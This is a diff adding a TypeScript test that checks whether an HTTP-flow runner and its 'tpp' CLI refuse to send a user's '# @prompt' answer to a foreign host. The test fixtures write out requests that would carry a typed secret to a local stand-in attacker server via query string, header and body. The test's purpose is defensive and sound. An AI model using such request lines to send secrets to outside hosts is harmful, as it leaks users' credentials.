@@ -203,6 +203,36 @@ describe('flows: what a flow may read and where it may send', function () {
       assert.equal(received.length, before + 1);
     });
 
+    it('a # @prompt answer is a value of your side, even where a file variable has its name, in its request and later ones', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        received.push(`${req.method} ${req.url}`);
+        res.end('{}');
+      });
+      const none = () => Promise.reject(new Error('none'));
+      // The answer wins over @tok when resolving (docs/flows.md, Variables), so @tok's own text is no excuse.
+      const same = parseFlow(`@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d?t={{tok}}\n`, 'prompt.http');
+      const asked: string[] = [];
+      const typed = await runFlow(same, { environment, readFile: none, prompt: async () => 'typed-secret', hosts: { confirm: async (host, carried) => (asked.push(carried.map((c) => `${c.kind} ${'name' in c ? c.name : ''}`).join()), false) } });
+      assert.equal(typed[0]?.outcome, 'errored', typed[0]?.message);
+      assert.match(typed[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(asked, ['prompt tok'], 'the editor asks, naming the prompt');
+      // tpp.variables fills the input box in: accepting it unchanged is an answer too.
+      const prefilled = await runFlow(same, { environment, readFile: none, variables: { tok: 'from-settings' }, prompt: async (_r, _p, initial) => initial });
+      assert.match(prefilled[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok/);
+      // A file variable first resolved with the answer keeps it for the rest of the run: a later request carries it.
+      const later = parseFlow(`@tok = written-here\n@auth = Bearer {{tok}}\n# @prompt tok\nGET {{baseUrl}}/verify-token\nX-Auth: {{auth}}\n\n###\nGET http://${attackerHost}/later\nX-Auth: {{auth}}\n`, 'later.http');
+      const after = await runFlow(later, { environment, readFile: none, prompt: async () => 'typed-secret' });
+      assert.deepEqual(after.map((r) => r.outcome), ['passed', 'errored'], after.map((r) => r.message).join(' | '));
+      assert.match(after[1]?.message ?? '', /the answer to # @prompt tok/);
+      // tpp run takes the answer from --var, and says so before sending anything.
+      const cliFlow = write(join(project, 'flows', 'prompt.http'), `@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
+      const r = await cli(project, 'run', cliFlow, ...flags(), '--var', 'tok=typed-secret');
+      assert.equal(r.code, 2, r.out);
+      assert.match(r.out, /prompt\.http:3:6: error: .*the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(received, [], 'the foreign host got nothing');
+    });
+
     it('a request carrying only what the file wrote may go to any host; the token never does', async () => {
       attacker.removeAllListeners('request');
       attacker.on('request', (req, res) => {
